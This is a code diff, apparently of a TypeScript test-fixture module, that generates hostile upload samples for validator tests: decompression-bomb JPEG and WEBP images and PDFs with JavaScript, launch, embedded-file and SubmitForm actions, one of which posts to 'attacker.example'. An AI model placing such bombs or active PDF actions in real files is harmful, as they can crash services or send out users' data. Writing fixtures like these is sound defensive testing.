@@ -48,7 +48,6 @@ const jpeg = (width = 64, height = 48) =>
     .jpeg()
     .toBuffer();
 
-
 /** A PNG carrying a text chunk before IEND (where a polyglot hides its script). */
 async function pngWithText(text: string): Promise<Buffer> {
   const image = await png(64, 64);
@@ -79,7 +78,11 @@ async function jpegWithXmp(): Promise<Buffer> {
 
 /** A JPEG declaring 65 000 × 65 000 pixels in its frame header (SOF0) over an 8 × 8 body. */
 async function jpegBomb(): Promise<Buffer> {
-  const image = Buffer.from(await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } }).jpeg().toBuffer());
+  const image = Buffer.from(
+    await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
+      .jpeg()
+      .toBuffer(),
+  );
   const sof = image.indexOf(Buffer.from([0xff, 0xc0]));
   image.writeUInt16BE(65_000, sof + 5);
   image.writeUInt16BE(65_000, sof + 7);
@@ -88,7 +91,11 @@ async function jpegBomb(): Promise<Buffer> {
 
 /** A WEBP (lossless, VP8L) declaring 16 384 × 16 384 pixels over a tiny body. */
 async function webpBomb(): Promise<Buffer> {
-  const image = Buffer.from(await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } }).webp({ lossless: true }).toBuffer());
+  const image = Buffer.from(
+    await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
+      .webp({ lossless: true })
+      .toBuffer(),
+  );
   const vp8l = image.indexOf(Buffer.from('VP8L'));
   // After the chunk size and the 0x2f signature: 14 bits width - 1, 14 bits height - 1, alpha, version.
   const bits = (16_383 | (16_383 << 14)) >>> 0;
@@ -104,7 +111,9 @@ export async function neitherPictureNorDocument(): Promise<UploadSample[]> {
   const jpegImage = await jpeg(200, 150);
   const pngImage = await png(64, 48);
   const webpImage = await webp(64, 64);
-  const tiff = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } }).tiff().toBuffer();
+  const tiff = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
+    .tiff()
+    .toBuffer();
   const avif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
     .avif()
     .toBuffer()
@@ -246,13 +255,17 @@ const action = (document: PDFDocument, entries: Record<string, unknown>) => docu
 export async function activePdfs(): Promise<UploadSample[]> {
   const pdf = (filename: string, data: Buffer) => sample(filename, data, 'application/pdf');
   const onCatalog = (key: string, entries: Record<string, unknown>) => pdfWith((document) => document.catalog.set(PDFName.of(key), action(document, entries)));
-  const onPage = (key: string, entries: Record<string, unknown>) => pdfWith((document) => document.getPages()[0]!.node.set(PDFName.of(key), action(document, entries)));
+  const onPage = (key: string, entries: Record<string, unknown>) =>
+    pdfWith((document) => document.getPages()[0]!.node.set(PDFName.of(key), action(document, entries)));
   return [
     pdf('open-action-js.pdf', await openActionJavaScriptPdf()),
     pdf('embedded-file.pdf', await embeddedFilePdf()),
     pdf('launch.pdf', await launchActionPdf()),
     pdf('escaped-js.pdf', await escapedJavaScriptPdf()),
-    pdf('names-js.pdf', await onCatalog('Names', { JavaScript: { Names: [PDFString.of('x'), { S: 'JavaScript', JS: PDFHexString.fromText('app.alert(1)') }] } })),
+    pdf(
+      'names-js.pdf',
+      await onCatalog('Names', { JavaScript: { Names: [PDFString.of('x'), { S: 'JavaScript', JS: PDFHexString.fromText('app.alert(1)') }] } }),
+    ),
     pdf('catalog-aa.pdf', await onCatalog('AA', { WC: { S: 'JavaScript', JS: PDFHexString.fromText('1') } })),
     pdf('page-aa.pdf', await onPage('AA', { O: { S: 'JavaScript', JS: PDFHexString.fromText('1') } })),
     pdf('submit-form.pdf', await onCatalog('OpenAction', { S: 'SubmitForm', F: PDFString.of('http://attacker.example/') })),
